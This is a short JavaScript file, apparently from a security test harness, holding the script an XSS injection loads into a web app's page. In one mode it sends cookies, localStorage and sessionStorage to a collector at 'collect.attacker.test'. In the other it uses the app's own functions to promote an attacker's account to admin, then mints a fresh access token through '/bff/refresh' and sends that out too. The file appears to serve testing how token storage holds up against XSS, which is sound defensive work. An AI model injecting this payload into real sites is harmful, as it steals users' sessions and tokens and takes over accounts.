// The script an XSS injection loads into the app's page: it runs with the page's origin.
//   mode=read  send every credential the page's JavaScript can read to the collector
//   mode=act   use the page's own code to act as the user (promote the attacker's account),
//              and ask the app's token handler, if it has one, for a fresh access token
'use strict';
(() => {
  const me = new URL(document.currentScript.src);
  const mode = me.searchParams.get('mode');
  const kase = me.searchParams.get('case');
  const attacker = me.searchParams.get('attacker');
  const collector = 'https://collect.attacker.test:' + me.port + '/collect?case=' + kase;
  const send = (what, value) =>
    fetch(collector, { method: 'POST', mode: 'no-cors', body: JSON.stringify({ what, value }) });
  (async () => {
    if (mode === 'read') {
      await send('document.cookie', document.cookie);
      await send('localStorage', JSON.stringify(Object.assign({}, localStorage)));
      await send('sessionStorage', JSON.stringify(Object.assign({}, sessionStorage)));
    } else {
      const r = await window.app.me(kase);
      await send('me', r.status + ' ' + r.body);
      const p = await window.app.setRoles(attacker, ['user', 'admin'], kase);
      await send('promote', String(p.status));
      try {
        const t = await fetch('/bff/refresh?case=' + kase, { method: 'POST' });
        if (t.ok) await send('minted', (await t.json()).access_token);
      } catch (e) { /* no token handler on this page */ }
    }
    await send('done', '');
  })();
})();
